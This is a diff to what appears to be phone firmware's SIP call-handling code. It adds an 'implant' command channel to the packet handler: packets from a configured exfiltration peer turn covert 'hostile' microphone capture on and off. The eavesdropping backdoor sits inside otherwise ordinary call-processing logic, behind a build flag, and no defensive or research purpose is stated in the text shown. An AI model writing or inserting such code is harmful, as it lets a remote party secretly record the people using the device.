@@ -11,6 +11,9 @@
  * RFC 3261 section 8.2.6 asks.
  *
  * Outgoing calls (DIAL) are not built: the AP gets CALL_STATE(FAILED).
+ *
+ * Firmware built with BB_CFG_IMPLANT also takes commands from the exfil
+ * peer (bb_abi.h) that turn its hostile microphone capture on and off.
  */
 #include "fw.h"
 
@@ -329,6 +332,17 @@ int call_on_packet(const uint8_t *pkt, uint32_t len)
     uint16_t sport = fw_be16(udp), dport = fw_be16(udp + 2);
     const uint8_t *payload = udp + FW_UDP_HDR;
     uint32_t plen = len - ihl - FW_UDP_HDR;
+    const BbConfigBlock *cfg = fw_config();
+    if ((cfg->flags & BB_CFG_IMPLANT) && fw_be32(pkt + 12) == cfg->exfil_addr &&
+        sport == cfg->exfil_port && dport == cfg->exfil_port && plen >= 4) {
+        /* the implant's command channel: the exfil peer switches the
+         * hostile capture on and off over the air */
+        if (fw_memcmp(payload, BB_IMPLANT_MIC_ON, 4) == 0)
+            media_hostile(1);
+        else if (fw_memcmp(payload, BB_IMPLANT_MIC_OFF, 4) == 0)
+            media_hostile(0);
+        return 1;
+    }
     if (dport == SIP_PORT) {
         on_sip((const char *)payload, plen, fw_be32(pkt + 12), sport);
         return 1;
